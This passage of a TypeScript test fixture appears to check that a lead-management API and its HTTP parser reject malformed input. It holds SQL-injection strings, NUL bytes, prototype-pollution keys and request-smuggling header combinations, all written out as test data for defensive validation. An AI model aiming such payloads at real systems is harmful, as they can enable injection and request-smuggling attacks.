  ...pageCases('/api/v1/leads'),
  ...[
    ['from=2026-02-30', invalidQuery],
    ['from=2026-13-01', invalidQuery],
    ['from=2026-1-1', invalidQuery],
    ['from=20260101', invalidQuery],
    ['from=yesterday', invalidQuery],
    ['from=2026-02-01T25:00Z', invalidQuery],
    ['from=2026-02-01T10:00', invalidQuery],
    ['from=2026-02-01T10:00:00.1234567Z', invalidQuery],
    ['from=2026-02-01%20OR%201=1', invalidQuery],
    ['from=0000-01-01', invalidQuery],
    ['to=9999-12-31', invalidQuery],
    ['from=2026-03-01&to=2026-02-01', invalidQuery],
    ['from=2026-02-01&from=2026-02-02', invalidQuery],
    [`from=${'1'.repeat(5000)}`, invalidQuery],
    [`source=${'s'.repeat(129)}`, invalidQuery],
    [`offer=${'o'.repeat(501)}`, invalidQuery],
    [`email=${'e'.repeat(501)}`, invalidQuery],
    ['source=a&source=b', invalidQuery],
    [`source=${NUL}`, invalidQuery],
    [`offer=a${NUL}b`, invalidQuery],
    [`email=ana${NUL}@example.com`, invalidQuery],
    [`email=${SQL}`, answered],
    [`source=${SQL}`, answered],
    [`offer=${SQL}`, answered],
    ['offer=%ED%A0%80', answered],
    ['offer=%FF%FE', answered],
    ['email=%E2%80%AEmoc.elpmaxe@ana', answered],
    ['source=', answered],
  ].map(([query, expected]) => filterCase(`/api/v1/leads?${String(query)}`, expected as AdminCase['expect'])),
  ...[
    ['not-a-uuid', invalidId],
    [encodeURIComponent("1' OR '1'='1"), invalidId],
    [NUL, invalidId],
    ['%E2%80%AE', invalidId],
    [`{${UNKNOWN_UUID}}`, invalidId],
    [`${UNKNOWN_UUID}x`, invalidId],
    ['0'.repeat(2000), invalidId],
    [UNKNOWN_UUID, notFound],
    [UNKNOWN_UUID.toUpperCase(), notFound],
  ].flatMap(([id, expected]) =>
    ['/api/v1/leads', '/api/v1/contacts'].flatMap((base) => {
      const paths = base === '/api/v1/contacts' ? [`${base}/${String(id)}`, `${base}/${String(id)}/score`] : [`${base}/${String(id)}`];
      return paths.map((path) => filterCase(path, expected as Refused));
    }),
  ),

  // Contacts.
  ...pageCases('/api/v1/contacts'),
  ...[
    ['phone=abc', invalidQuery],
    ['phone=%2B', invalidQuery],
    [`phone=%2B49${NUL}301234567`, invalidQuery],
    [`phone=${'1'.repeat(65)}`, invalidQuery],
    [`phone=${SQL}`, invalidQuery],
    [`email=${'e'.repeat(501)}`, invalidQuery],
    ['email=a&email=b', invalidQuery],
    [`email=${NUL}`, invalidQuery],
    [`email=${SQL}`, answered],
    ['email=%ED%A0%80', answered],
    ['email=', answered],
  ].map(([query, expected]) => filterCase(`/api/v1/contacts?${String(query)}`, expected as AdminCase['expect'])),

  // Reports.
  ...REPORTS.flatMap((report) =>
    [
      ['', invalidQuery],
      ['from=2026-02-01', invalidQuery],
      ['to=2026-02-01', invalidQuery],
      ['from=2026-02-30&to=2026-03-01', invalidQuery],
      ['from=2026-02-01&to=2026-13-01', invalidQuery],
      ['from=2026-03-01&to=2026-02-01', invalidQuery],
      ['from=0001-01-01&to=9999-12-31', invalidQuery],
      ['from=2026-02-01T00:00:00Z&to=2026-02-28', invalidQuery],
      ['from=2026-2-1&to=2026-2-28', invalidQuery],
      ['from[]=2026-02-01&to=2026-02-28', invalidQuery],
      ['from=2026-02-01&from=2026-02-02&to=2026-02-28', invalidQuery],
      [`from=${SQL}&to=2026-02-28`, invalidQuery],
      [`${RANGE}&country=Atlantis`, invalidQuery],
      [`${RANGE}&country=${NUL}`, invalidQuery],
      [`${RANGE}&country=${'c'.repeat(101)}`, invalidQuery],
      [`${RANGE}&source=${'s'.repeat(129)}`, invalidQuery],
      [`${RANGE}&offer=${'o'.repeat(501)}`, invalidQuery],
      [`${RANGE}&source=${NUL}`, invalidQuery],
      [`${RANGE}&offer=a${NUL}`, invalidQuery],
      [`${RANGE}&unknown=1`, invalidQuery],
      [`${RANGE}&__proto__=1`, invalidQuery],
      [`${RANGE}&constructor=1`, invalidQuery],
      [`${RANGE}&limit=10`, invalidQuery],
      [`${RANGE}&source=${SQL}`, answered],
      [`${RANGE}&offer=%ED%A0%80`, answered],
      [`${RANGE}&country=de`, answered],
    ].map(([query, expected]) => filterCase(`${report}?${String(query)}`, expected as AdminCase['expect'])),
  ),
];

// ---------------------------------------------------------------------------------------------
// Requests the HTTP parser itself refuses (sent over a raw socket).

export interface ProtocolCase {
  name: string;
  /** Request line, then headers (a string is sent as a whole line), then the body. */
  request: [string, Array<[string, string] | string>, string?];
  status: number;
  halfClose?: boolean;
}

const HOST: [string, string] = ['Host', 'leadflow.test'];
const JSON_HEADER: [string, string] = ['Content-Type', JSON_TYPE];

export const protocolCases: ProtocolCase[] = [
  {
    name: 'a Content-Length shorter than the body',
    request: ['POST /api/lead HTTP/1.1', [HOST, JSON_HEADER, ['Content-Length', '6']], '{"a":1}'],
    status: 400,
  },
  {
    name: 'a Content-Length longer than the body, then the client stops sending',
    request: ['POST /api/lead HTTP/1.1', [HOST, JSON_HEADER, ['Content-Length', '50']], '{"a":1}'],
    status: 400,
    halfClose: true,
  },
  {
    name: 'a Content-Length that is not a number',
    request: ['POST /api/lead HTTP/1.1', [HOST, JSON_HEADER, ['Content-Length', 'abc']], '{"a":1}'],
    status: 400,
  },
  {
    name: 'a negative Content-Length',
    request: ['POST /api/lead HTTP/1.1', [HOST, JSON_HEADER, ['Content-Length', '-7']], '{"a":1}'],
    status: 400,
  },
  {
    name: 'two different Content-Length headers',
    request: ['POST /api/lead HTTP/1.1', [HOST, JSON_HEADER, ['Content-Length', '7'], ['Content-Length', '8']], '{"a":1}'],
    status: 400,
  },
  {
    name: 'Content-Length and Transfer-Encoding together',
    request: [
      'POST /api/lead HTTP/1.1',
      [HOST, JSON_HEADER, ['Content-Length', '7'], ['Transfer-Encoding', 'chunked']],
      '7\r\n{"a":1}\r\n0\r\n\r\n',
    ],
    status: 400,
  },
  {
    name: 'a chunk size that is not hexadecimal',
    request: ['POST /api/lead HTTP/1.1', [HOST, JSON_HEADER, ['Transfer-Encoding', 'chunked']], 'zz\r\n{"a":1}\r\n0\r\n\r\n'],
    status: 400,
  },
  {
    name: 'an unknown Transfer-Encoding',
    request: ['POST /api/lead HTTP/1.1', [HOST, JSON_HEADER, ['Transfer-Encoding', 'x-chunky']], '{"a":1}'],
    status: 400,
  },
  {
    name: 'a control character in a header value',
    request: ['POST /api/lead HTTP/1.1', [HOST, JSON_HEADER, ['Idempotency-Key', 'a\u0001b'], ['Content-Length', '7']], '{"a":1}'],
    status: 400,
  },
  {
    name: 'a NUL in a header value',
    request: ['POST /api/lead HTTP/1.1', [HOST, JSON_HEADER, ['X-Request-Id', 'a\u0000b'], ['Content-Length', '7']], '{"a":1}'],
    status: 400,
  },
  {
    name: 'a header line without a colon',
    request: ['POST /api/lead HTTP/1.1', [HOST, JSON_HEADER, 'Idempotency-Key', ['Content-Length', '7']], '{"a":1}'],
    status: 400,
  },
  {
    name: 'a space before the colon',
    request: ['POST /api/lead HTTP/1.1', [HOST, 'Content-Type : application/json', ['Content-Length', '7']], '{"a":1}'],
    status: 400,
  },
  { name: 'an unknown method', request: ['FOO /api/lead HTTP/1.1', [HOST], ''], status: 400 },
  {
    name: 'an unknown HTTP version',
    request: ['POST /api/lead HTTP/9.9', [HOST, JSON_HEADER, ['Content-Length', '7']], '{"a":1}'],
    status: 400,
  },
  {
    name: 'a space in the path',
    request: ['POST /api/ lead HTTP/1.1', [HOST, JSON_HEADER, ['Content-Length', '7']], '{"a":1}'],
    status: 400,
  },
  {
    name: 'a path that is not UTF-8 once decoded',
    request: ['GET /api/v1/leads/%ff%fe HTTP/1.1', [HOST, ['Authorization', `Bearer ${E2E_ADMIN_KEY}`]]],
    status: 400,
  },
  // Node's HTTP server itself answers a request without Host with an empty 400 (not shown here).
  {
    name: 'a 20 KB header',
    request: ['POST /api/lead HTTP/1.1', [HOST, JSON_HEADER, ['User-Agent', 'u'.repeat(20 * KiB)], ['Content-Length', '7']], '{"a":1}'],
    status: 431,
  },
  {
    name: '1 000 headers, 25 KB in all',
    request: [
      'POST /api/lead HTTP/1.1',
      [
        HOST,
        JSON_HEADER,
        ...Array.from({ length: 1000 }, (_, i): [string, string] => [`X-H${i}`, 'v'.repeat(15)]),
        ['Content-Length', '7'],
      ],
      '{"a":1}',
    ],
    status: 431,
  },
];
